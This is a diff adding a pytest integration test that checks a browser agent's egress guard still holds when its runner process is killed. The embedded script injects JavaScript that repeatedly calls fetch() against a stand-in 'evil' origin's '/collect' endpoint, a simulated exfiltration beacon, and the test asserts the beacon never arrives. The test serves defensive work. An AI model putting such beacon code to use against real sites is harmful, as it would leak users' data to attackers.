@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import subprocess
+import sys
+import time
 from typing import TYPE_CHECKING
 
 import pytest
@@ -14,6 +17,7 @@ from agent.errors import UsageError
 from agent.vault.origin import OriginPolicy
 from tests.integration.browser.acts import PASSWORD, eventually, received, type_in
 from tests.integration.browser.test_egress import send
+from tests.integration.remote.test_remote_runs import open_there
 from tests.standins.browsers import chromium
 from tests.standins.relay import without
 
@@ -113,6 +117,53 @@ async def test_a_browser_started_with_the_switches_is_not_missing_them(
         remote = Remote.of(there.url, None, allowed)
         account, _ = await typed_and_sent(open_session, site, remote, "a worker's socket")
     assert received(site, account) == frozenset()
+
+
+KILLED = """
+import asyncio, sys
+from agent.browser.folder import PrivateFolder
+from agent.browser.opening import open_session
+from agent.browser.options import BrowserOptions
+from agent.browser.remote.endpoint import Remote
+from agent.browser.remote.weaknesses import WORDS
+from agent.vault.open import RunSecrets
+
+async def run(endpoint, site, evil):
+    options = BrowserOptions(remote=Remote.of(endpoint, None, WORDS), record=False)
+    with PrivateFolder.create() as folder, RunSecrets(()) as secrets:
+        async with open_session(options, secrets, folder) as session:
+            judged = session.guard._judged
+            stop = ("Fetch.failRequest", {"errorReason": "BlockedByClient"})
+            session.guard._judged = lambda one: stop if evil in one["url"] else judged(one)
+            await session.page.goto(site)
+            await session.page.evaluate('''(evil) => { setInterval(() => {
+              for (let i = 0; i < 3; i++)
+                fetch(evil + "/collect?killed", {mode: "no-cors"}).catch(() => 0); }, 5) }''', evil)
+            while session.guard.requests < 200:
+                await session.page.wait_for_timeout(20)
+            print("going", flush=True)
+            await asyncio.Event().wait()
+
+asyncio.run(run(*sys.argv[1:]))
+"""
+
+
+@pytest.mark.parametrize("kind", ["cdp", "plain"])
+def test_what_the_guard_holds_stays_held_when_the_runner_is_killed(
+    kind: str, site: Site, request: pytest.FixtureRequest
+) -> None:
+    there: Elsewhere = request.getfixturevalue(kind)
+    words = [sys.executable, "-c", KILLED, there.url, site.origin, site.evil]
+    with subprocess.Popen(words, stdout=subprocess.PIPE) as runner:
+        assert runner.stdout is not None
+        assert runner.stdout.readline() == b"going\n"
+        runner.kill()
+    # The server may take a while to end a browser whose page is so busy.
+    ends = time.monotonic() + 30
+    while list((there.folder / "tmp").glob("playwright*")) or (kind == "cdp" and open_there(there)):
+        assert time.monotonic() < ends
+        time.sleep(0.1)
+    assert b"killed" not in site.evil_log.everything()
 
 
 async def test_what_cannot_be_done_elsewhere_is_told_before_anything_is_opened(
